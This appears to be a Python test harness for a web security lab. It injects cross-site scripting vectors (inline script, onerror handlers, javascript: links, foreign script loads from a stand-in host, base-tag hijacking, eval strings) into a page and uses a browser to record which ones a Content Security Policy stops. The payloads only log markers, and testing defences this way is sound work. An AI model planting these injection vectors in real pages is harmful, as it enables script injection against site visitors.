"""What an attacker writes into a page, and what of it got through.

Every attack tells of its success by one line on the browser's console, or by a
request that reaches the other site.
"""

import asyncio
import html
from contextlib import suppress
from dataclasses import dataclass
from typing import Any, Self
from urllib.parse import urlsplit

import httpx

from strongroom.lab import Lab

from .visitor import ELSEWHERE, Page, visitor


PREFIX = "attack: "

PATIENCE_SECONDS = 3
"""Browsers report within a moment."""


def ran(name: str) -> str:
    """Return a script that says that the attack called *name* got through."""
    return f"console.log('{PREFIX}{name}')"


_NESTED = html.escape(f"<script>{ran('script in a frame')}</script>")

MARKUP = f"""
<script>{ran("inline script")}</script>
<script src="{ELSEWHERE}/foreign-script"></script>
<img alt="" src="data:," onerror="{ran("event handler")}">
<iframe srcdoc="{_NESTED}"></iframe>
<object data="{ELSEWHERE}/object"></object>
<embed src="{ELSEWHERE}/embed">
<a id="attack-link" href="javascript:{ran("javascript link")}">Here</a>
<form method="post" action="{ELSEWHERE}/form" target="_blank">
<button id="attack-form">Here</button></form>
<base href="{ELSEWHERE}/base/">
"""
"""What is written into the body. The base comes last, so that it moves nothing here."""

SCRIPT = f"""async () => {{
    const attack = act => setTimeout(() => {{ try {{ act() }} catch {{}} }}, 0);
    const made = document.createElement("script");
    attack(() => eval("{ran("eval")}"));
    attack(() => new Function("{ran("new Function")}")());
    attack(() => setTimeout("{ran("timer text")}", 0));
    attack(() => {{ made.innerHTML = "0"; {ran("innerHTML")} }});
    attack(() => {{ made.src = "{ELSEWHERE}/made-script" }});
    attack(() => made.src && document.body.append(made));
    attack(() => document.baseURI.startsWith("{ELSEWHERE}") && {ran("base")});
    await new Promise(done => setTimeout(done, 150));
}}"""
"""What a page's own script is led to do. It acts from timers, as a page does: what the
inspector calls itself, a browser exempts."""

ATTACKS = frozenset(
    {
        "base",
        "embed",
        "eval",
        "event handler",
        "foreign-script",
        "form",
        "inline script",
        "innerHTML",
        "javascript link",
        "made-script",
        "new Function",
        "object",
        "script in a frame",
        "timer text",
    }
)

LISTEN = """window.stopped = [];
document.addEventListener("securitypolicyviolation", event => {
    window.stopped.push(event.effectiveDirective);
});"""


@dataclass(frozen=True, slots=True)
class Attacked:
    """How one attacked page fared."""

    got_through: list[str]
    """The attacks that did what they wanted."""

    stopped_by: list[str]
    """The directives that stopped something, as the page itself was told."""

    reported: int
    """How many reports of that the target has taken from the browser."""


async def attack(
    lab: Lab, path: str, answer: httpx.Response, *, without: tuple[str, ...] = ()
) -> Attacked:
    """Show *answer* with the attacks in it, as the page at *path*, to a visitor."""
    heard: list[str] = []
    async with visitor(lab) as browsing:
        page = browsing.page
        page.on("console", lambda message: heard.append(message.text))
        await page.context.route(f"{ELSEWHERE}/*-script", answer_script)
        body = inject(answer.text)
        await browsing.show(lab.url + path, answer, without=without, body=body)
        reports = await Reports.watch(page)
        await page.add_init_script(LISTEN)
        await page.goto(lab.url + path)
        await press_and_run(page)
        stopped = await page.evaluate("() => window.stopped")
        if stopped:
            await reports.wait()
    names = {line.removeprefix(PREFIX) for line in heard if line.startswith(PREFIX)}
    names |= {urlsplit(request.url).path[1:] for request in browsing.asked}
    return Attacked(sorted(ATTACKS & names), sorted(set(stopped)), reports.taken)


def inject(page: str) -> str:
    """Return *page* with the attacks at the end of its body."""
    start, end, rest = page.rpartition("</body>")
    return f"{start}{MARKUP}{end}{rest}" if end else page + MARKUP


async def answer_script(route: Any) -> None:
    """Answer as the other site: with a script that says which one it is."""
    name = urlsplit(route.request.url).path[1:]
    await route.fulfill(content_type="text/javascript", body=ran(name))


async def press_and_run(page: Page) -> None:
    """Do what a visitor and the page's own script would do."""
    for target in ("#attack-link", "#attack-form"):
        await page.focus(target)
        await page.keyboard.press("Enter")
    await page.evaluate(SCRIPT)


class Reports:
    """The reports of one page that the target has taken from the browser."""

    def __init__(self) -> None:
        """Expect some."""
        self.taken = 0
        self._first = asyncio.Event()

    @classmethod
    async def watch(cls, page: Page) -> Self:
        """Count from now on what *page* reports, in the old way and the new."""
        reports = cls()
        page.on("response", reports.note_old)
        inspector = await page.context.new_cdp_session(page)
        inspector.on("Network.reportingApiReportUpdated", reports.note_new)
        await inspector.send("Network.enable")
        await inspector.send("Network.enableReportingApi", {"enable": True})
        return reports

    def note_new(self, event: Any) -> None:
        """Count a report of ``report-to`` that was delivered."""
        if event["report"]["status"] == "Success":
            self._count()

    def note_old(self, answer: Any) -> None:
        """Count a report of ``report-uri`` that was taken."""
        kind = answer.request.headers.get("content-type")
        if kind == "application/csp-report" and answer.ok:
            self._count()

    async def wait(self) -> None:
        """Return at the first report, or when it has been waited for long enough."""
        with suppress(TimeoutError):
            async with asyncio.timeout(PATIENCE_SECONDS):
                await self._first.wait()

    def _count(self) -> None:
        self.taken += 1
        self._first.set()
